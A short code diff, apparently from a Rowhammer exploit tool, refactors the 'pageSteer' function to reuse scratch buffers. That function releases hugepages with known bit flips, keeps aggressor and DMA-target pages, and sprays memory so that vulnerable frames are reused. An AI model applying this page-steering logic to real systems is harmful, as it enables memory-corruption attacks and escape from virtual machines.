@@ -112,12 +112,14 @@ func pageSteer(os *guest.OS, cfg Config, buf Buffer, victims []VulnBit) (*SteerR
 	// Step 2: release the vulnerable hugepages. Victims sharing a
 	// hugepage with any kept aggressor must be skipped, as must
 	// duplicates and the DMA target's hugepage.
-	keep := map[memdef.GVA]bool{memdef.HugeBase(dmaTarget): true}
+	scratch := scratchOf(cfg)
+	keep := scratch.gvaSet(&scratch.keep)
+	keep[memdef.HugeBase(dmaTarget)] = true
 	for _, v := range victims {
 		keep[memdef.HugeBase(v.AggressorA)] = true
 		keep[memdef.HugeBase(v.AggressorB)] = true
 	}
-	released := map[memdef.GVA]bool{}
+	released := scratch.gvaSet(&scratch.released)
 	for _, v := range victims {
 		hp := v.Flip.HugepageBase()
 		if keep[hp] || released[hp] {
@@ -158,7 +160,7 @@ func pageSteer(os *guest.OS, cfg Config, buf Buffer, victims []VulnBit) (*SteerR
 	// unmovable free lists — which the released blocks now dominate.
 	// A seeded shuffle of the spray order redraws the chunk-to-frame
 	// pairing on every attempt.
-	order := make([]int, buf.Hugepages)
+	order := scratch.intSlice(buf.Hugepages)
 	for i := range order {
 		order[i] = i
 	}
